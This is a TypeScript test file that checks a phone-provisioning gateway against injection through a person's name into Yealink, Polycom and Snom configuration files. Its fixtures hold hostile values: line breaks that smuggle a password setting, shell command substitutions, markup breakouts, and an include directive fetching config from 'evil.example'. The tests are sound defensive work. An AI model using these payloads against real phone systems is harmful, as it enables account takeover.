import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readPeople } from "../../src/cli/people-csv.ts";
import { readConfig } from "../../src/config/index.ts";
import type { Person } from "../../src/model/index.ts";
import { config, opened, person, phone } from "../contract/provisioning/site.ts";
import { readPolycom } from "../contract/provisioning/strict-polycom.ts";
import { readSnom } from "../contract/provisioning/strict-snom.ts";
import { readYealink } from "../contract/provisioning/strict-yealink.ts";
import { dataFolder } from "../lab/data-folder.ts";
import { sheets } from "../unit/http/words.ts";
import { GatewayBench } from "./bench.ts";

/* What a person is called goes into the files of phones, so a name is a way in for whoever may give one. */

const lines = [
  ["a line feed", "Ana\naccount.1.password = evil"],
  ["a carriage return", "Ana\raccount.1.password = evil"],
  ["both", "Ana\r\n#!version:1.0.0.1\r\naccount.1.password = evil"],
  ["an end of text", "Ana\u0000evil"],
  ["a next line", "Ana\u0085evil"],
  ["a line separator", "Ana\u2028evil"],
  ["half a character", "Ana\ud83d"],
] as const;

const words = [
  ["quotes", `Ana "x" 'y' \`z\``],
  ["markup", '<evil/>" evil="1'],
  ["the end of a comment and of CDATA", "--> ]]> ?>"],
  ["an entity", "&evil; &#10; &amp;"],
  ["a command", "$(evil) `evil` $evil"],
  ["a fact in braces", "{sip-password} {launcher}"],
  ["a comment", "# account.1.password = evil"],
  ["an order to include", 'include:config "http://evil.example/x.cfg"'],
  ["signs of replacement", "$& $1 $$ \\n %0a"],
] as const;

const makes = [
  ["yealink", "T46U", "805ec0aa2001", readYealink, "account.1.display_name"],
  ["polycom", "VVX411", "0004f2aa2001", readPolycom, "reg.1.displayName"],
  ["snom", "D785", "000413aa2001", readSnom, "user_realname.1"],
] as const;

/** The files of a phone whose owner is called so, or why there is none. */
async function filesFor(name: string, vendor: string, model: string, mac: string) {
  const owner: Person = person("2001", "agent", { name });
  const of = await opened(config([owner], [phone(mac, vendor, model, "2001")]), sheets.known());
  return of.render(mac, "full", true);
}

describe.each(makes)("a person's name in the files of a %s", (vendor, model, mac, read, key) => {
  const keysOf = async (name: string): Promise<ReadonlyMap<string, string>> => {
    const files = await filesFor(name, vendor, model, mac);
    if (!files.ok) throw new Error(files.sentence);
    const told = read(files.value.find(({ text }) => !text.includes("CONFIG_FILES"))?.text ?? "");
    return told.ok ? told.keys : expect.fail(told.complaint);
  };

  it.each(lines)("makes no file with %s in it", async (_, name) => {
    expect(await filesFor(name, vendor, model, mac)).toMatchObject({
      ok: false,
      sentence: expect.stringContaining(key),
    });
  });

  it.each(words)("is the name and nothing else with %s", async (_, name) => {
    const plain = await keysOf("Ana");
    const told = await keysOf(name);
    expect(told.get(key)).toBe(name);
    expect(new Map(told).set(key, "Ana")).toEqual(new Map(plain));
  });
});

describe("the word that resets a key", () => {
  it.each(makes)("is no name in the file of a %s", async (vendor, model, mac) => {
    expect((await filesFor("%NULL%", vendor, model, mac)).ok).toBe(false);
  });
});

describe("a person with a line end in their name", () => {
  let bench: GatewayBench;
  let origin: string;
  let token: string;
  beforeAll(async () => {
    bench = new GatewayBench({});
    await bench.start();
    origin = (await bench.gateway.status()).publicUrl;
    const made = await bench.gateway.access().make("os:root", "hr", "people");
    token = made.ok ? made.value.token : expect.fail(made.sentence);
  });
  afterAll(() => bench.stop());
  const wish = (name: string) => ({ extension: "2050", name, role: "agent", teams: ["support"] });

  it.each(lines)("is refused by the file: %s", async (_, name) => {
    const folder = await dataFolder("config");
    const file = join(folder, "earshot.yaml");
    const people = [{ extension: "2001", name, role: "agent", teams: [] }];
    writeFileSync(
      file,
      JSON.stringify({ policy: { hidden: "forbidden" }, pbx: { kind: "simulator" }, people, phones: [] }),
    );
    const result = readConfig(file, {}, sheets.known());
    const keys = result.ok ? [] : result.problems.map(({ key }) => key);
    expect(keys).toContain("people[0].name");
  });

  it.each(lines)("is refused by the API: %s", async (_, name) => {
    const reply = await fetch(`${origin}/api/v1/people`, {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: JSON.stringify(wish(name)),
    });
    expect(reply.status).toBe(422);
    expect(bench.gateway.people().find("2050")).toBeUndefined();
  });

  it.each(lines)("is refused by the command: %s", async (_, name) => {
    expect(await bench.gateway.people().add("os:root", wish(name))).toMatchObject({ ok: false, why: "not-right" });
  });

  // Half a character is none in UTF-8, so no file has one.
  it.each(lines.slice(0, -1))("is refused from a list, and the list with it: %s", async (_, name) => {
    const csv = `extension,name,role,teams\n2050,"${name}",agent,support\n2051,Ben,agent,support\n`;
    const read = readPeople(Buffer.from(csv));
    const enlisted = await bench.gateway.people().enlist("os:root", read.lines, false);
    expect([...read.problems, ...("problems" in enlisted ? enlisted.problems : [])]).toHaveLength(1);
    expect(bench.gateway.people().find("2051")).toBeUndefined();
  });
});
